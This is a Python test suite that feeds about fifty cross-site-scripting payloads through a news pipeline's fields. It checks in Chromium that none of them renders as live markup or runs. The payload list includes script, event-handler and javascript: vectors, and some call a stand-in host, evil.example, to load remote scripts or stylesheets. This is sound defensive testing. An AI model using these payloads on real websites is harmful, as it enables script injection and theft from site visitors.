"""XSS: hostile text in every field an article brings, analysed for real and opened in real Chromium.

Each payload goes into a headline, the body, a reader comment, the author, the outlet name and
the URL of one article. The pipeline stores it; the web app renders it. In the browser, every
page must hold only the elements and attributes our templates make (none of the payloads as
live markup), no link that is not ours or an http(s) link with rel="noopener noreferrer
nofollow", no script run (canary), and the text the reader sees equals the stored text, which
equals the input.
"""

from __future__ import annotations

import contextlib
import json
import sqlite3
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from conftest import live_server

PAYLOADS = [
    "<script>window.__xss=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.__xss=1>",
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<body onload=window.__xss=1>",
    "<iframe src=javascript:window.__xss=1>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'>",
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==",
    "data:text/html,<script>window.__xss=1</script>",
    "vbscript:msgbox(1)",
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=window.__xss=1>",
    '" onmouseover="window.__xss=1',
    "' onfocus='window.__xss=1' autofocus='",
    '<a href="javascript:window.__xss=1">click</a>',
    "<a href=javascript&colon;window.__xss=1>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "<math href=javascript:window.__xss=1>x</math>",
    "<svg><a xlink:href=javascript:window.__xss=1><text>x</text></a></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=window.__xss=1></foreignObject></svg>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__xss=1'>",
    "<base href=http://evil.example/>",
    "<object data=javascript:window.__xss=1>",
    "<embed src=javascript:window.__xss=1>",
    "<form action=javascript:window.__xss=1><button>x</button></form>",
    "<input onfocus=window.__xss=1 autofocus>",
    "<details open ontoggle=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    "<marquee onstart=window.__xss=1>x</marquee>",
    '<div style="background:url(javascript:window.__xss=1)">x</div>',
    '<img src="x" onerror="&#119;indow.__xss=1">',
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<!--<img src=x onerror=window.__xss=1>-->",
    "]]><script>window.__xss=1</script>",
    "{{7*7}} {% raw %} ${7*7} #{7*7}",
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    "\x1b[31mred\x1b[0m \x1b]0;owned\x07",
    "\x1b[2J\x1b[H cleared the terminal",
    "\u202egnp.exe",
    "<img src=x:alert(1) onerror=eval(src)>",
    "`-window.__xss=1-`",
]

# What our templates make; anything else in a page came from the data.
ALLOWED_TAGS = {
    "html", "head", "meta", "title", "link", "body", "nav", "a", "form", "input", "button", "main", "footer",
    "h1", "h2", "h3", "p", "span", "section", "div", "label", "table", "thead", "tbody", "tr", "th", "td",
    "ul", "ol", "li", "details", "summary", "blockquote", "sup", "br", "b", "code", "mark", "select", "option",
    "svg", "rect", "text", "line", "circle",
}
ALLOWED_ATTRS = {
    "class", "id", "href", "rel", "title", "type", "name", "value", "placeholder", "aria-label", "aria-hidden",
    "aria-labelledby", "role", "method", "action", "size", "maxlength", "checked", "selected", "for", "colspan",
    "width", "height", "viewbox", "x", "y", "x1", "x2", "y1", "y2", "cx", "cy", "r", "fill", "stroke-width",
    "lang", "charset", "content",
}
# Every element and attribute of the page, every link, and whether a payload ran.
DOM_SCAN = """
const els = Array.from(document.querySelectorAll('*'));
return {
  tags: Array.from(new Set(els.map(e => e.localName))),
  attrs: Array.from(new Set(els.flatMap(e => Array.from(e.attributes).map(a => a.name.toLowerCase())))),
  links: Array.from(document.querySelectorAll('a[href]')).map(a => [a.getAttribute('href'), a.getAttribute('rel')]),
  actions: Array.from(document.querySelectorAll('form')).map(f => f.getAttribute('action')),
  stylesheets: Array.from(document.querySelectorAll('link')).map(l => l.getAttribute('href')),
  ran: window.__xss !== undefined || (window.parent && window.parent.__xss !== undefined),
};
"""


def _record(i: int, payload: str) -> dict[str, Any]:
    text = (f"The council met on Monday to vote on budget item {i} and the payload {payload} was read aloud.\n\n"
            f"The mayor said the plan would pass this week, quoting {payload} in full.\n\n"
            f"Residents of district {i} said they were worried about the cost of the new library.\n\n"
            f"Comments\n\n  - {payload}\n  - I disagree with the mayor about item {i}.")
    return {"id": f"x{i}", "title": f"Budget vote {i}: {payload}", "text": text, "author": payload,
            "outlet": payload, "url": payload, "published": f"2024-03-{1 + i % 28:02d}"}


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[dict[str, Any]]]:
    from parallax.pipeline import analyze

    records = [_record(i, p) for i, p in enumerate(PAYLOADS)]
    folder = tmp_path_factory.mktemp("xss")
    src = folder / "hostile.jsonl"
    src.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    result = analyze([src], out_dir=folder / "out")
    assert result.counts["articles"] == len(PAYLOADS), result.report["corpus"]
    return result.db_path, records


def test_there_are_at_least_forty_payloads() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40


def test_stored_text_equals_the_input(hostile_db: tuple[Path, list[dict[str, Any]]]) -> None:
    db_path, records = hostile_db
    with sqlite3.connect(db_path) as db:
        rows = db.execute("SELECT title, author, outlet, url, text, document FROM articles").fetchall()
    by_title = {r[0]: r for r in rows}
    for rec in records:
        title, author, outlet, url, text, document = by_title[rec["title"]]
        assert (author, outlet, url) == (rec["author"], rec["outlet"], rec["url"])
        assert text.count(rec["outlet"]) == 2, text
        assert rec["outlet"] in json.loads(document)["comments"]


def _scan(chrome: Any, url: str) -> dict[str, Any]:
    chrome.get(url)
    found: dict[str, Any] = chrome.execute_script(DOM_SCAN)
    return found


def _assert_inert(found: dict[str, Any], where: str) -> None:
    assert not found["ran"], f"a payload ran on {where}"
    assert set(found["tags"]) <= ALLOWED_TAGS, f"{where}: foreign elements {set(found['tags']) - ALLOWED_TAGS}"
    assert set(found["attrs"]) <= ALLOWED_ATTRS, f"{where}: foreign attributes {set(found['attrs']) - ALLOWED_ATTRS}"
    for href, rel in found["links"]:
        if href.startswith(("/", "#")):
            continue
        assert href.lower().startswith(("http://", "https://")), f"{where}: link to {href!r}"
        assert set((rel or "").split()) >= {"noopener", "noreferrer", "nofollow"}, f"{where}: {href} rel={rel}"
    assert all(a.startswith("/") for a in found["actions"]), found["actions"]
    assert found["stylesheets"] == ["/static/style.css"], found["stylesheets"]


def test_no_payload_is_live_markup_in_the_browser(chrome: Any, hostile_db: tuple[Path, list[dict[str, Any]]]) -> None:
    from selenium.webdriver.common.by import By

    db_path, records = hostile_db
    with live_server(db_path) as base:
        pages = ["/stories", "/stories?sort=articles", "/outlets"]
        stories = json.loads(_text(chrome, f"{base}/stories.json"))["stories"]
        pages += [f"/story/{quote(s['id'])}" for s in stories]
        for path in pages:
            _assert_inert(_scan(chrome, base + path), path)
        with sqlite3.connect(db_path) as db:
            ids = dict(db.execute("SELECT title, id FROM articles").fetchall())
        for rec in records:
            where = f"article with {rec['outlet']!r}"
            _assert_inert(_scan(chrome, f"{base}/article/{ids[rec['title']]}"), where)
            # What the reader sees is the stored text, character for character.
            assert chrome.find_element(By.CSS_SELECTOR, "h1.headline").get_attribute("textContent") == rec["title"]
            assert chrome.find_element(By.CSS_SELECTOR, ".author").get_attribute("textContent") == rec["author"]
            comments = [e.get_attribute("textContent") for e in chrome.find_elements(By.CSS_SELECTOR, "blockquote")]
            assert any(c.startswith(rec["author"]) for c in comments), where
            body = chrome.find_element(By.CSS_SELECTOR, ".body").get_attribute("textContent")
            assert body.count(rec["author"]) == 2, where
            # Outlet card, search and filters reflect the hostile name or query back.
            outlet_url = f"{base}/outlet?{urlencode({'name': rec['outlet']})}"
            _assert_inert(_scan(chrome, outlet_url), f"outlet page of {rec['outlet']!r}")
            assert chrome.find_element(By.TAG_NAME, "h1").get_attribute("textContent") == rec["outlet"]
            _assert_inert(_scan(chrome, f"{base}/search?{urlencode({'q': rec['title']})}"), f"search {rec['title']!r}")
            assert chrome.find_element(By.NAME, "q").get_attribute("value") == rec["title"]
            _assert_inert(_scan(chrome, f"{base}/stories?{urlencode({'outlet': rec['outlet']})}"), "filter")


def _text(chrome: Any, url: str) -> str:
    import urllib.request

    with urllib.request.urlopen(url, timeout=30) as resp:  # loopback only: the test server
        return str(resp.read().decode("utf-8"))


REPORT_SCAN = """
const els = Array.from(document.querySelectorAll('*'));
return {
  tags: Array.from(new Set(els.map(e => e.localName))),
  handlers: els.flatMap(e => Array.from(e.attributes).filter(a => a.name.toLowerCase().startsWith('on'))
                                .map(a => e.localName + '@' + a.name)),
  styled: els.filter(e => e.hasAttribute('style') && !(e.localName === 'span' && e.className === 'bar')).length,
  links: Array.from(document.querySelectorAll('a[href]')).map(a => [a.getAttribute('href'), a.getAttribute('rel')]),
  ran: window.__xss !== undefined,
  titles: Array.from(document.querySelectorAll('article.card > h3')).map(h => h.textContent),
};
"""


def test_report_html_holds_no_payload_as_markup(chrome: Any, hostile_db: tuple[Path, list[dict[str, Any]]]) -> None:
    db_path, records = hostile_db
    report = db_path.parent / "report.html"
    chrome.get(report.resolve().as_uri())
    # Once here (full suite, 1 Dec) the scan read only a few of the 40+ cards: let the page finish
    # before reading it (a timeout falls through to the assertions, which then say what is missing).
    from selenium.common.exceptions import TimeoutException
    from selenium.webdriver.support.ui import WebDriverWait

    with contextlib.suppress(TimeoutException):
        WebDriverWait(chrome, 10).until(lambda d: d.execute_script(
            "return document.readyState === 'complete' && document.querySelectorAll('article.card').length")
            >= len(records))
    found = chrome.execute_script(REPORT_SCAN)
    assert not found["ran"] and not found["handlers"] and found["styled"] == 0
    allowed = ALLOWED_TAGS | {"style", "article", "header", "strong"}  # what report.html.j2 makes
    assert set(found["tags"]) <= allowed, set(found["tags"]) - allowed
    for href, rel in found["links"]:
        assert href.startswith("#") or (href.startswith(("http://", "https://")) and "noopener" in (rel or "")), href
    assert sorted(found["titles"]) == sorted(r["title"] for r in records)  # shown as typed
